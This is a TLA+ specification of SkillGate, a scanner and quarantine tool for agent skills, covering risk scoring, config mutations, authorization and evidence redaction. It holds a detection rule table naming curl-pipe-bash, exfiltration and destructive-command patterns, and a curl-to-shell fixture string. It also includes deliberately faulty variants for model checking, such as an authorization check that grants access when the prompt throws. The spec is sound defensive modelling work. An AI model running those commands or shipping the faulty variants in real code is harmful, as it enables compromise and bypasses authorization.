---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* SkillGate (openclaw-skillgate): the risk assessor (core/decision.ts)    *)
(* and the governance store with its actions (core/actions.ts) and the     *)
(* /gov commands that drive them.                                          *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    findings,     \* assessRisk: the Finding[] argument
    assessment,   \* assessRisk: the RiskAssessment returned (NoAssessment before the call)
    pcA,          \* assessRisk: "input" before the call, "done" after it
    config,       \* the file at OPENCLAW_CONFIG_PATH (the Governance Store)
    evidenceDir,  \* EVIDENCE_DIR: evidence id -> the record saved as <id>.json
    backups,      \* ~/.openclaw/quarantine: the backup directories created
    clock,        \* the wall clock read by Date.now() and nowISO()
    result,       \* the last operation: its name, return value and the calls it made
    testMode,     \* globalThis.__skillgate_test_mode === true
    authResult,   \* the last authorization call: its context, environment and answer
    procs,        \* mutations in flight: for each, its step, what it read and writes
    saving,       \* the evidence generated and where its saveEvidence has got to
    prompt,       \* confirmAction: the readline question and its 30 s timer
    tmpFiles      \* the files <OPENCLAW_CONFIG_PATH>.tmp.<Date.now()>: path -> content

assessVars == <<findings, assessment, pcA>>
govVars == <<config, evidenceDir, backups, clock, result>>
authVars == <<testMode, authResult, prompt>>
raceVars == <<procs, tmpFiles>>
evidVars == <<saving>>
promptVars == <<prompt>>

vars == <<findings, assessment, pcA, config, evidenceDir, backups, clock, result,
          testMode, authResult, procs, tmpFiles, saving, prompt>>

(***************************************************************************)
(* Bounds                                                                  *)
(***************************************************************************)
MaxFindings == 3      \* longest finding list handed to assessRisk
MaxClock == 1         \* the clock runs from 0 to MaxClock
MaxRepeated == 11     \* most matches of one rule in a scan
MaxFileLen == 3       \* most pieces (newlines and texts) in a scanned file

Undef == "undefined"  \* a JavaScript property that is absent

(***************************************************************************)
(* core/scan.ts: severities, rules, findings                               *)
(***************************************************************************)
Severity == {"CRITICAL", "HIGH", "MEDIUM", "LOW", "INFO"}

\* The rule table: id, severity and description of every rule (the patterns are
\* not modelled: what a pattern matched is an input).
DEFAULT_RULES ==
    << [id |-> "curl-pipe-bash", severity |-> "CRITICAL",
        description |-> "Remote code execution via curl pipe to shell"],
       [id |-> "wget-pipe-bash", severity |-> "CRITICAL",
        description |-> "Remote code execution via wget pipe to shell"],
       [id |-> "base64-pipe-bash", severity |-> "CRITICAL",
        description |-> "Obfuscated code execution via base64 decode"],
       [id |-> "rm-rf-root", severity |-> "CRITICAL",
        description |-> "Destructive command targeting root or home directory"],
       [id |-> "eval-remote", severity |-> "CRITICAL",
        description |-> "Eval of remotely fetched content"],
       [id |-> "download-execute", severity |-> "HIGH",
        description |-> "Download and execute pattern"],
       [id |-> "env-exfiltration", severity |-> "HIGH",
        description |-> "Potential environment variable exfiltration"],
       [id |-> "hardcoded-token", severity |-> "HIGH",
        description |-> "Hardcoded secret or API key"],
       [id |-> "shell-spawn-untrusted", severity |-> "HIGH",
        description |-> "Shell command with template literal (potential injection)"],
       [id |-> "install-download", severity |-> "HIGH",
        description |-> "Install hook downloads external content"],
       [id |-> "dynamic-require", severity |-> "MEDIUM",
        description |-> "Dynamic require with non-literal argument"],
       [id |-> "fs-write-root", severity |-> "MEDIUM",
        description |-> "File write to root filesystem"],
       [id |-> "network-listener", severity |-> "MEDIUM",
        description |-> "Creates network listener"],
       [id |-> "obfuscated-code", severity |-> "MEDIUM",
        description |-> "Potentially obfuscated code (hex escapes)"],
       [id |-> "shell-exec", severity |-> "LOW",
        description |-> "Uses shell execution"],
       [id |-> "network-request", severity |-> "LOW",
        description |-> "Makes network requests"],
       [id |-> "file-system-access", severity |-> "LOW",
        description |-> "Accesses file system"] >>

\* The finding scanSkill pushes for a downloading install command in the metadata.
MetadataInstallFinding == [rule |-> "metadata-install-download", severity |-> "HIGH"]

\* A Finding, reduced to the two fields assessRisk computes with (rule, severity);
\* description, file and line only appear inside the text of a reason line.
Finding(rule, severity) == [rule |-> rule, severity |-> severity]

\* The findings assessRisk is applied to. assessRisk reads a rule id only to
\* match it against the combos, so the inputs are the scanner's findings of
\* every rule named in a combo, of one rule outside the combos at each severity
\* the rule table has, and an INFO finding of a rule that is not in the table.
RulesOutsideCombos ==
    {"eval-remote", "shell-spawn-untrusted", "dynamic-require", "file-system-access"}
RulesInCombos ==
    {"curl-pipe-bash", "wget-pipe-bash", "download-execute", "obfuscated-code",
     "shell-exec", "base64-pipe-bash", "hardcoded-token", "env-exfiltration",
     "network-request", "rm-rf-root", "install-download"}
\* The Finding scanFile pushes for a match of the rule at file:line; match is the
\* matched text (match[0].slice(0, 100)).
RuleById(id) == DEFAULT_RULES[CHOOSE i \in DOMAIN DEFAULT_RULES : DEFAULT_RULES[i].id = id]
ScannedFinding(rule, file, line, match) ==
    [rule |-> rule, severity |-> RuleById(rule).severity, file |-> file, line |-> line,
     match |-> match, description |-> RuleById(rule).description]

FindingInputs ==
    {Finding(DEFAULT_RULES[i].id, DEFAULT_RULES[i].severity) :
        i \in {j \in DOMAIN DEFAULT_RULES :
                  DEFAULT_RULES[j].id \in RulesInCombos \cup RulesOutsideCombos}}
        \cup {MetadataInstallFinding}
        \cup {Finding("custom-rule", "INFO")}

FindingLists == UNION {[1..n -> FindingInputs] : n \in 0..MaxFindings}

(***************************************************************************)
(* core/decision.ts: assessRisk                                            *)
(***************************************************************************)
SEVERITY_WEIGHTS_InfoZero ==
    [CRITICAL |-> 100, HIGH |-> 50, MEDIUM |-> 20, LOW |-> 5, INFO |-> 0]

SEVERITY_WEIGHTS ==
    [CRITICAL |-> 100, HIGH |-> 50, MEDIUM |-> 20, LOW |-> 5, INFO |-> 1]

COMBOS ==
    << [name |-> "supply-chain-attack",
        rules |-> <<"curl-pipe-bash", "wget-pipe-bash", "download-execute">>,
        minMatches |-> 1, scoreBonus |-> 100],
       [name |-> "obfuscated-execution",
        rules |-> <<"obfuscated-code", "shell-exec", "base64-pipe-bash">>,
        minMatches |-> 2, scoreBonus |-> 80],
       [name |-> "credential-theft",
        rules |-> <<"hardcoded-token", "env-exfiltration", "network-request">>,
        minMatches |-> 2, scoreBonus |-> 70],
       [name |-> "destructive-payload",
        rules |-> <<"rm-rf-root", "install-download", "metadata-install-download">>,
        minMatches |-> 1, scoreBonus |-> 100],
       [name |-> "install-hook-risky",
        rules |-> <<"install-download", "metadata-install-download", "shell-exec">>,
        minMatches |-> 2, scoreBonus |-> 40] >>

\* The reason line pushed for a CRITICAL/HIGH finding, and the one pushed for a combo.
FindingReason(f) == [kind |-> "finding", severity |-> f.severity, rule |-> f.rule]
ComboReason(combo) == [kind |-> "COMBO", name |-> combo.name]

\* for (const finding of findings) { baseScore += ...; reasons.push(...) }
RECURSIVE FindingLoop(_, _, _)
FindingLoop(fs, i, acc) ==
    IF i > Len(fs) THEN acc
    ELSE LET f == fs[i] IN
         FindingLoop(fs, i + 1,
            [baseScore |-> acc.baseScore + SEVERITY_WEIGHTS[f.severity],
             reasons   |-> IF f.severity = "CRITICAL" \/ f.severity = "HIGH"
                           THEN Append(acc.reasons, FindingReason(f))
                           ELSE acc.reasons])

\* new Set(findings.map((f) => f.rule))
matchedRules(fs) == {fs[i].rule : i \in DOMAIN fs}

\* Every finding's rule that belongs to the combo, one per finding.
matchedComboRules_PerFinding(combo, fs) ==
    LET rules == [i \in DOMAIN fs |-> fs[i].rule] IN
    SelectSeq(rules, LAMBDA r : \E j \in DOMAIN combo.rules : combo.rules[j] = r)

\* combo.rules.filter((r) => matchedRules.has(r))
matchedComboRules(combo, fs) ==
    SelectSeq(combo.rules, LAMBDA r : r \in matchedRules(fs))

\* for (const combo of COMBOS) { if (matched.length >= minMatches) {...} }
RECURSIVE ComboLoop(_, _, _)
ComboLoop(fs, i, acc) ==
    IF i > Len(COMBOS) THEN acc
    ELSE LET combo == COMBOS[i]
             matched == matchedComboRules(combo, fs)
         IN  ComboLoop(fs, i + 1,
                IF Len(matched) >= combo.minMatches
                THEN [baseScore |-> acc.baseScore + combo.scoreBonus,
                      reasons   |-> Append(acc.reasons, ComboReason(combo)),
                      combos    |-> Append(acc.combos,
                                      [name |-> combo.name,
                                       scoreBonus |-> combo.scoreBonus,
                                       matchedRules |-> matched])]
                ELSE acc)

\* determineLevel deciding on the score alone.
determineLevel_ScoreOnly(score, fs) ==
    IF score >= 200 THEN [level |-> "CRITICAL", action |-> "quarantine"]
    ELSE IF score >= 100 THEN [level |-> "HIGH", action |-> "disable"]
    ELSE IF score >= 40 THEN [level |-> "MEDIUM", action |-> "warn"]
    ELSE IF score > 0 THEN [level |-> "LOW", action |-> "log"]
    ELSE [level |-> "SAFE", action |-> "none"]

\* determineLevel with a strict comparison in the CRITICAL score test.
determineLevel_StrictCritical(score, fs) ==
    LET hasCritical == \E i \in DOMAIN fs : fs[i].severity = "CRITICAL"
        highCount == Cardinality({i \in DOMAIN fs : fs[i].severity = "HIGH"})
    IN  IF hasCritical \/ score > 200 THEN [level |-> "CRITICAL", action |-> "quarantine"]
        ELSE IF highCount >= 2 \/ score >= 100 THEN [level |-> "HIGH", action |-> "disable"]
        ELSE IF highCount >= 1 \/ score >= 40 THEN [level |-> "MEDIUM", action |-> "warn"]
        ELSE IF score > 0 THEN [level |-> "LOW", action |-> "log"]
        ELSE [level |-> "SAFE", action |-> "none"]

\* determineLevel with strict comparisons in the HIGH test.
determineLevel_StrictHigh(score, fs) ==
    LET hasCritical == \E i \in DOMAIN fs : fs[i].severity = "CRITICAL"
        highCount == Cardinality({i \in DOMAIN fs : fs[i].severity = "HIGH"})
    IN  IF hasCritical \/ score >= 200 THEN [level |-> "CRITICAL", action |-> "quarantine"]
        ELSE IF highCount > 2 \/ score > 100 THEN [level |-> "HIGH", action |-> "disable"]
        ELSE IF highCount >= 1 \/ score >= 40 THEN [level |-> "MEDIUM", action |-> "warn"]
        ELSE IF score > 0 THEN [level |-> "LOW", action |-> "log"]
        ELSE [level |-> "SAFE", action |-> "none"]

\* determineLevel looking for a CRITICAL finding at the head of the list only.
determineLevel_FirstFinding(score, fs) ==
    LET hasCritical == fs # <<>> /\ fs[1].severity = "CRITICAL"
        highCount == Cardinality({i \in DOMAIN fs : fs[i].severity = "HIGH"})
    IN  IF hasCritical \/ score >= 200 THEN [level |-> "CRITICAL", action |-> "quarantine"]
        ELSE IF highCount >= 2 \/ score >= 100 THEN [level |-> "HIGH", action |-> "disable"]
        ELSE IF highCount >= 1 \/ score >= 40 THEN [level |-> "MEDIUM", action |-> "warn"]
        ELSE IF score > 0 THEN [level |-> "LOW", action |-> "log"]
        ELSE [level |-> "SAFE", action |-> "none"]

\* determineLevel with the LOW test off by one.
determineLevel_LowAboveOne(score, fs) ==
    LET hasCritical == \E i \in DOMAIN fs : fs[i].severity = "CRITICAL"
        highCount == Cardinality({i \in DOMAIN fs : fs[i].severity = "HIGH"})
    IN  IF hasCritical \/ score >= 200 THEN [level |-> "CRITICAL", action |-> "quarantine"]
        ELSE IF highCount >= 2 \/ score >= 100 THEN [level |-> "HIGH", action |-> "disable"]
        ELSE IF highCount >= 1 \/ score >= 40 THEN [level |-> "MEDIUM", action |-> "warn"]
        ELSE IF score > 1 THEN [level |-> "LOW", action |-> "log"]
        ELSE [level |-> "SAFE", action |-> "none"]

determineLevel(score, fs) ==
    LET hasCritical == \E i \in DOMAIN fs : fs[i].severity = "CRITICAL"
        highCount == Cardinality({i \in DOMAIN fs : fs[i].severity = "HIGH"})
    IN  IF hasCritical \/ score >= 200 THEN [level |-> "CRITICAL", action |-> "quarantine"]
        ELSE IF highCount >= 2 \/ score >= 100 THEN [level |-> "HIGH", action |-> "disable"]
        ELSE IF highCount >= 1 \/ score >= 40 THEN [level |-> "MEDIUM", action |-> "warn"]
        ELSE IF score > 0 THEN [level |-> "LOW", action |-> "log"]
        ELSE [level |-> "SAFE", action |-> "none"]

\* reasons.slice(0, 10)
ReasonLimit == 10
Slice(s, n) == SubSeq(s, 1, IF Len(s) < n THEN Len(s) ELSE n)

assessRisk(fs) ==
    LET perFinding == FindingLoop(fs, 1, [baseScore |-> 0, reasons |-> <<>>])
        perCombo == ComboLoop(fs, 1, [baseScore |-> perFinding.baseScore,
                                      reasons   |-> perFinding.reasons,
                                      combos    |-> <<>>])
        la == determineLevel(perCombo.baseScore, fs)
    IN  [level   |-> la.level,
         score   |-> perCombo.baseScore,
         action  |-> la.action,
         reasons |-> Slice(perCombo.reasons, ReasonLimit),
         combos  |-> perCombo.combos]

shouldAutoQuarantine(a) == a.level = "CRITICAL"
\* A shouldAutoDisable that also fires at level MEDIUM.
shouldAutoDisable_MediumToo(a) == a.level \in {"HIGH", "MEDIUM"}


shouldAutoDisable(a) == a.level = "HIGH"

NoAssessment == [level |-> Undef, score |-> 0, action |-> Undef,
                 reasons |-> <<>>, combos |-> <<>>]

(***************************************************************************)
(* JavaScript objects are functions from property names to values: a       *)
(* property that is absent is outside the DOMAIN.                          *)
(***************************************************************************)
EmptyObject == [f \in {} |-> TRUE]
Has(obj, f) == f \in DOMAIN obj
\* { ...obj, ...upd }
Spread(obj, upd) == upd @@ obj
\* delete obj[f]
Delete(obj, f) == [g \in DOMAIN obj \ {f} |-> obj[g]]
Null == [null |-> TRUE]

(***************************************************************************)
(* The inputs of the governance operations                                 *)
(***************************************************************************)
\* The skill the operations are invoked on, and an entry of another skill that
\* is in the document from the start.
SkillKeys == {"risky-skill"}
BystanderKey == "example-skill"
EvidenceIds == {"ev-a1b2c3d4", "ev-e5f6a7b8"}
\* The id generateEvidenceId() returns inside the commands of Spec: every save of
\* a command there reuses the one id (an id of 32 random bits can repeat), so a
\* later record replaces the earlier one. SpecEvidence follows both ids.
GeneratedIds == {"ev-a1b2c3d4"}
Times == 0..MaxClock

\* DiscoveredSkill
Skill(k) == [skillKey |-> k, path |-> <<"skills", k>>, source |-> "workspace"]

\* What scanSkill can return for the skill, depending on its files at that time:
\* a CRITICAL finding; two HIGH findings (level HIGH); no CRITICAL or HIGH finding
\* but a combo (level HIGH by score); one HIGH finding (level MEDIUM); one LOW
\* finding (level LOW); no finding (level SAFE).
ScanOutcomes ==
    { << ScannedFinding("curl-pipe-bash", "install.sh", 2, "curl x.io|sh") >>,
      << ScannedFinding("hardcoded-token", "index.js", 1, "token='A1b2C3d4E5f6G7h8I9j0'"),
         ScannedFinding("shell-spawn-untrusted", "index.js", 3, "exec('${") >>,
      << ScannedFinding("obfuscated-code", "index.js", 1, "\\x41\\x42\\x43"),
         ScannedFinding("shell-exec", "index.js", 3, "exec") >>,
      << ScannedFinding("shell-spawn-untrusted", "index.js", 3, "exec('${") >>,
      << ScannedFinding("shell-exec", "index.js", 3, "exec") >>,
      << >> }

(***************************************************************************)
(* core/utils.ts: the config file                                          *)
(***************************************************************************)
FileMissing == [state |-> "missing"]
FileCorrupt == [state |-> "corrupt"]
FilePartial == [state |-> "partial"]    \* created or truncated, not written to its end
FileOf(doc) == [state |-> "ok", doc |-> doc]

\* readJson5Config: the parsed document, or null when reading or parsing throws
readJson5Config(file) == IF file.state = "ok" THEN file.doc ELSE Null

\* Values JSON5.parse returns for the JSON5 numbers Infinity and NaN, and JSON null.
Infinity == "Infinity"
NaN == "NaN"
JsonNull == "null"

\* JSON.stringify(data, null, 2) read back: a number that is not finite is written
\* as null; strings, booleans, finite numbers, arrays and objects are written as
\* they are. The documents here hold non-finite numbers at top-level keys only
\* (skills holds strings, booleans and objects), so skills is copied.
JSONstringify(data) ==
    [key \in DOMAIN data |->
        IF key = "skills" THEN data[key]
        ELSE IF data[key] \in {Infinity, NaN} THEN JsonNull ELSE data[key]]

\* atomicWriteJson: the file after the write; the old file when mkdir, writeFile
\* or rename throws (writeOk false).
atomicWriteJson(file, data, writeOk) ==
    IF writeOk THEN FileOf(JSONstringify(data)) ELSE file

(***************************************************************************)
(* core/actions.ts                                                         *)
(***************************************************************************)
\* A loadOrCreateConfig that starts every mutation from an empty document.
loadOrCreateConfig_AlwaysEmpty(file) == EmptyObject

\* config || {}
loadOrCreateConfig(file) ==
    IF readJson5Config(file) = Null THEN EmptyObject ELSE readJson5Config(file)

\* config.skills?.entries?.[skillKey]
HasEntry(doc, k) ==
    /\ Has(doc, "skills")
    /\ Has(doc.skills, "entries")
    /\ Has(doc.skills.entries, k)
EntryOf(doc, k) == doc.skills.entries[k]

\* if (!config.skills) ...; if (!config.skills.entries) ...;
\* config.skills.entries[k] = { ...config.skills.entries[k], ...upd }
SetEntry(doc, k, upd) ==
    LET skills == IF Has(doc, "skills") THEN doc.skills ELSE EmptyObject
        entries == IF Has(skills, "entries") THEN skills.entries ELSE EmptyObject
        old == IF Has(entries, k) THEN entries[k] ELSE EmptyObject
    IN  Spread(doc, [skills |->
            Spread(skills, [entries |-> Spread(entries, k :> Spread(old, upd))])])

Failed(k, message) ==
    [success |-> FALSE, skillKey |-> k, configUpdated |-> FALSE, message |-> message]
Succeeded(k, message) ==
    [success |-> TRUE, skillKey |-> k, configUpdated |-> TRUE, message |-> message]

\* quarantineSkill that replaces the entry instead of spreading the existing one.
quarantineSkill_ReplacesEntry(file, k, evidenceId, reason, now, mkdirOk, writeOk) ==
    LET backupPath == <<"quarantine", k, now>>
        doc == loadOrCreateConfig(file)
        cleared == IF HasEntry(doc, k)
                   THEN Spread(doc, [skills |-> Spread(doc.skills, [entries |->
                            Delete(doc.skills.entries, k)])])
                   ELSE doc
        newDoc == SetEntry(cleared, k,
                    [enabled |-> FALSE,
                     _quarantine |-> [timestamp |-> now, reason |-> reason,
                                      evidenceId |-> evidenceId,
                                      backupPath |-> backupPath]])
    IN  IF ~mkdirOk
        THEN [file |-> file, backups |-> {}, ret |-> Failed(k, "Failed to quarantine")]
        ELSE IF ~writeOk
        THEN [file |-> file, backups |-> {backupPath},
              ret |-> Failed(k, "Failed to quarantine")]
        ELSE [file |-> atomicWriteJson(file, newDoc, TRUE), backups |-> {backupPath},
              ret |-> Spread(Succeeded(k, "Quarantined"), [backupPath |-> backupPath])]

\* quarantineSkill(skill, evidence, reason) at time now. mkdirOk: the two mkdir of
\* the backup succeed; writeOk: saveConfig succeeds. Returns the file, the backup
\* directories created and the QuarantineResult.
quarantineSkill(file, k, evidenceId, reason, now, mkdirOk, writeOk) ==
    LET backupPath == <<"quarantine", k, now>>
        doc == loadOrCreateConfig(file)
        newDoc == SetEntry(doc, k,
                    [enabled |-> FALSE,
                     _quarantine |-> [timestamp |-> now, reason |-> reason,
                                      evidenceId |-> evidenceId,
                                      backupPath |-> backupPath]])
    IN  IF ~mkdirOk
        THEN [file |-> file, backups |-> {}, ret |-> Failed(k, "Failed to quarantine")]
        ELSE IF ~writeOk
        THEN [file |-> file, backups |-> {backupPath},
              ret |-> Failed(k, "Failed to quarantine")]
        ELSE [file |-> atomicWriteJson(file, newDoc, TRUE), backups |-> {backupPath},
              ret |-> Spread(Succeeded(k, "Quarantined"), [backupPath |-> backupPath])]

\* restoreSkill that removes the block but leaves the enabled flag as it was.
restoreSkill_KeepsDisabled(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file) IN
    IF ~HasEntry(doc, k)
    THEN [file |-> file, ret |-> Failed(k, "not found in config")]
    ELSE IF ~Has(EntryOf(doc, k), "_quarantine")
    THEN [file |-> file, ret |-> Failed(k, "is not quarantined")]
    ELSE LET entry == Delete(EntryOf(doc, k), "_quarantine")
             newDoc == Spread(doc, [skills |->
                         Spread(doc.skills, [entries |->
                            Spread(doc.skills.entries, k :> entry)])])
         IN  IF ~writeOk
             THEN [file |-> file, ret |-> Failed(k, "Failed to restore")]
             ELSE [file |-> atomicWriteJson(file, newDoc, TRUE),
                   ret |-> Succeeded(k, "Restored")]

\* restoreSkill that creates and enables the entry when the key has none.
restoreSkill_CreatesEntry(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file) IN
    IF ~HasEntry(doc, k)
    THEN [file |-> atomicWriteJson(file, SetEntry(doc, k, [enabled |-> TRUE]), TRUE),
          ret |-> Failed(k, "not found in config")]
    ELSE IF ~Has(EntryOf(doc, k), "_quarantine")
    THEN [file |-> file, ret |-> Failed(k, "is not quarantined")]
    ELSE LET entry == Spread(Delete(EntryOf(doc, k), "_quarantine"), [enabled |-> TRUE])
             newDoc == Spread(doc, [skills |->
                         Spread(doc.skills, [entries |->
                            Spread(doc.skills.entries, k :> entry)])])
         IN  IF ~writeOk
             THEN [file |-> file, ret |-> Failed(k, "Failed to restore")]
             ELSE [file |-> atomicWriteJson(file, newDoc, TRUE),
                   ret |-> Succeeded(k, "Restored")]

\* restoreSkill that also drops the allowlist flag of the entry.
restoreSkill_ClearsAllowlist(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file) IN
    IF ~HasEntry(doc, k)
    THEN [file |-> file, ret |-> Failed(k, "not found in config")]
    ELSE IF ~Has(EntryOf(doc, k), "_quarantine")
    THEN [file |-> file, ret |-> Failed(k, "is not quarantined")]
    ELSE LET entry == Spread(Delete(Delete(EntryOf(doc, k), "_quarantine"), "_allowlisted"),
                             [enabled |-> TRUE])
             newDoc == Spread(doc, [skills |->
                         Spread(doc.skills, [entries |->
                            Spread(doc.skills.entries, k :> entry)])])
         IN  IF ~writeOk
             THEN [file |-> file, ret |-> Failed(k, "Failed to restore")]
             ELSE [file |-> atomicWriteJson(file, newDoc, TRUE),
                   ret |-> Succeeded(k, "Restored")]

\* restoreSkill(skillKey)
restoreSkill(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file) IN
    IF ~HasEntry(doc, k)
    THEN [file |-> file, ret |-> Failed(k, "not found in config")]
    ELSE IF ~Has(EntryOf(doc, k), "_quarantine")
    THEN [file |-> file, ret |-> Failed(k, "is not quarantined")]
    ELSE \* delete entry._quarantine; entry.enabled = true
         LET entry == Spread(Delete(EntryOf(doc, k), "_quarantine"), [enabled |-> TRUE])
             newDoc == Spread(doc, [skills |->
                         Spread(doc.skills, [entries |->
                            Spread(doc.skills.entries, k :> entry)])])
         IN  IF ~writeOk
             THEN [file |-> file, ret |-> Failed(k, "Failed to restore")]
             ELSE [file |-> atomicWriteJson(file, newDoc, TRUE),
                   ret |-> Succeeded(k, "Restored")]

\* disableSkill whose failed write leaves the new entry in the file.
disableSkill_PartialWrite(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file)
        newDoc == SetEntry(doc, k, [enabled |-> FALSE])
    IN  IF ~writeOk
        THEN [file |-> atomicWriteJson(file, newDoc, TRUE),
              ret |-> Failed(k, "Failed to disable")]
        ELSE [file |-> atomicWriteJson(file, newDoc, TRUE), ret |-> Succeeded(k, "Disabled")]

\* disableSkill that writes a new entry instead of spreading the existing one.
disableSkill_ReplacesEntry(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file)
        cleared == SetEntry(doc, k, [enabled |-> FALSE])
        newDoc == Spread(cleared, [skills |->
                     Spread(cleared.skills, [entries |->
                        Spread(cleared.skills.entries, k :> [enabled |-> FALSE])])])
    IN  IF ~writeOk
        THEN [file |-> file, ret |-> Failed(k, "Failed to disable")]
        ELSE [file |-> atomicWriteJson(file, newDoc, TRUE), ret |-> Succeeded(k, "Disabled")]

\* disableSkill(skill, _reason)
disableSkill(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file)
        newDoc == SetEntry(doc, k, [enabled |-> FALSE])
    IN  IF ~writeOk
        THEN [file |-> file, ret |-> Failed(k, "Failed to disable")]
        ELSE [file |-> atomicWriteJson(file, newDoc, TRUE), ret |-> Succeeded(k, "Disabled")]

\* allowlistSkill(skillKey)
allowlistSkill(file, k, writeOk) ==
    LET doc == loadOrCreateConfig(file)
        newDoc == SetEntry(doc, k, [enabled |-> TRUE, _allowlisted |-> TRUE])
    IN  IF ~writeOk
        THEN [file |-> file, ret |-> Failed(k, "Failed to allowlist")]
        ELSE [file |-> atomicWriteJson(file, newDoc, TRUE),
              ret |-> Succeeded(k, "Allowlisted")]

\* An isAllowlisted that never finds the flag.
isAllowlisted_Never(file, k) == FALSE

\* isAllowlisted(skillKey)
isAllowlisted(file, k) ==
    LET doc == loadOrCreateConfig(file) IN
    /\ HasEntry(doc, k)
    /\ Has(EntryOf(doc, k), "_allowlisted")
    /\ EntryOf(doc, k)._allowlisted = TRUE

\* isQuarantined(skillKey): the quarantine block or null
isQuarantined(file, k) ==
    LET doc == loadOrCreateConfig(file) IN
    IF HasEntry(doc, k) /\ Has(EntryOf(doc, k), "_quarantine")
    THEN EntryOf(doc, k)._quarantine
    ELSE Null

\* What an object made by JSON5.parse or by a literal inherits from
\* Object.prototype: the property names every such object answers to without
\* holding them (two of them stand for all). Each value is a function object,
\* which is truthy and has no _allowlisted and no _quarantine property.
ObjectPrototype ==
    [constructor |-> [function |-> "Object"],
     toString |-> [function |-> "toString"]]

\* getSkillStatus(skillKey): config.skills?.entries?.[skillKey] || null. The
\* property access answers with the entry held under skillKey and, when none is
\* held, with what the entries object inherits under that name.
getSkillStatus(file, k) ==
    LET doc == loadOrCreateConfig(file) IN
    IF HasEntry(doc, k) THEN EntryOf(doc, k)
    ELSE IF Has(doc, "skills") /\ Has(doc.skills, "entries") /\ Has(ObjectPrototype, k)
         THEN ObjectPrototype[k]
         ELSE Null

(***************************************************************************)
(* core/authz.ts                                                           *)
(***************************************************************************)
\* The environment of an authorization call: the test-mode flag, whether stdin is
\* a TTY, and what the prompt yields (an answer, the 30 s timeout, an error).
AuthEnvs ==
    { [testMode |-> t, isTTY |-> FALSE, answer |-> "none"] : t \in BOOLEAN }
    \cup { [testMode |-> t, isTTY |-> TRUE, answer |-> a] :
              t \in BOOLEAN, a \in {"yes", "YES", "no", "timeout", "error"} }

toLowerCase(a) == IF a \in {"YES", "Yes"} THEN "yes" ELSE a

\* confirmAction: false on timeout, else answer.toLowerCase() === 'yes'
confirmAction(env) ==
    IF env.answer = "timeout" THEN FALSE ELSE toLowerCase(env.answer) = "yes"

\* requireAuth that grants when the prompt throws.
requireAuth_GrantsOnError(env) ==
    IF ~env.isTTY THEN FALSE
    ELSE IF env.answer = "error" THEN TRUE
    ELSE confirmAction(env)

\* requireAuth(ctx).authorized
requireAuth(env) ==
    IF ~env.isTTY THEN FALSE
    ELSE IF env.answer = "error" THEN FALSE
    ELSE confirmAction(env)

\* requireAuthWithTest(ctx).authorized
requireAuthWithTest(env) == IF env.testMode THEN TRUE ELSE requireAuth(env)

AuthOutcomes == {requireAuthWithTest(env) : env \in AuthEnvs}

\* AuthAction, and the AuthContext of a call (riskLevel and evidenceId are only
\* shown in the prompt).
AuthActions == {"quarantine", "restore", "allow", "disable"}
AuthContexts == [action : AuthActions, skillKey : SkillKeys \cup {BystanderKey}]

\* The AuthResult of fn(ctx) in environment env (timestamp left out), kept with
\* the function called and the environment.
AuthResult(fn, ctx, env, authorized) ==
    [fn |-> fn, authorized |-> authorized, action |-> ctx.action,
     skillKey |-> ctx.skillKey, env |-> env]
NoAuthResult == [fn |-> "none"]
\* No confirmAction is waiting.
NoPrompt == [pc |-> "idle"]

(***************************************************************************)
(* core/evidence.ts                                                        *)
(***************************************************************************)
\* sha256(content): the hex digest, of which the first 8 digits are kept, for
\* the texts the scans here match.
sha256(s) ==
    CASE
       s = "curl x.io|sh" -> "e0e265d0"
    [] s = "token='A1b2C3d4E5f6G7h8I9j0'" -> "7a8c13be"
    [] s = "exec('${" -> "bb704328"
    [] s = "\\x41\\x42\\x43" -> "ab54289a"
    [] s = "exec" -> "2706c619"
    [] s = "spawn" -> "a04afb36"
    [] s = "fetch" -> "e7d3799e"

\* redactSnippet(snippet).hash: `sha256:${sha256(snippet)}`
redactSnippet(snippet) == [redacted |-> TRUE, hash |-> <<"sha256:", sha256(snippet)>>]

\* A RedactedFinding that carries the matched text in its description.
RedactedFinding_KeepsMatch(f) ==
    [rule |-> f.rule, severity |-> f.severity, file |-> f.file, line |-> f.line,
     description |-> f.match, snippet_redacted |-> TRUE,
     snippet_hash |-> redactSnippet(f.match).hash, redaction_applied |-> TRUE]

\* The RedactedFinding generateEvidence makes of the finding f
RedactedFinding(f) ==
    [rule |-> f.rule, severity |-> f.severity, file |-> f.file, line |-> f.line,
     description |-> f.description, snippet_redacted |-> TRUE,
     snippet_hash |-> redactSnippet(f.match).hash, redaction_applied |-> TRUE]

\* generateEvidence(scanResult, assessment), with the id generateEvidenceId() drew
generateEvidence(k, fs, a, id) ==
    [id |-> id,
     skillKey |-> k,
     skillPath |-> Skill(k).path,
     riskLevel |-> a.level,
     riskScore |-> a.score,
     recommendedAction |-> a.action,
     findings |-> [i \in DOMAIN fs |-> RedactedFinding(fs[i])],
     combos |-> [i \in DOMAIN a.combos |-> a.combos[i].name]]

\* generateEvidence at the time nowISO() returns: scanTimestamp added. The
\* commands of Spec never read the timestamp and generate without it.
generateEvidenceAt(k, fs, a, id, now) ==
    Spread(generateEvidence(k, fs, a, id), [scanTimestamp |-> now])

\* EVIDENCE_DIR is a map from evidence id to the content of <id>.json: the record
\* written, or FilePartial for a file created or truncated and not written to
\* its end. Before the first mkdir the directory does not exist.
DirMissing == [state |-> "missing"]
mkdir(dir) == IF dir = DirMissing THEN EmptyObject ELSE dir

\* A saveEvidence that returns without having written the record.
saveEvidence_WritesNothing(dir, ev) == mkdir(dir)

\* saveEvidence: mkdir(EVIDENCE_DIR); writeFile(<EVIDENCE_DIR>/<id>.json), whole
saveEvidence(dir, ev) == Spread(mkdir(dir), ev.id :> ev)

\* What a call of saveEvidence can leave: the record saved ("saved"); nothing
\* changed, mkdir having thrown ("mkdir"); the file created or truncated and not
\* written to its end, writeFile having thrown ("writeFile").
SaveOutcomes == {"saved", "mkdir", "writeFile"}
saveEvidenceWith(dir, ev, outcome) ==
    CASE outcome = "saved" -> saveEvidence(dir, ev)
      [] outcome = "mkdir" -> dir
      [] outcome = "writeFile" -> Spread(mkdir(dir), ev.id :> FilePartial)

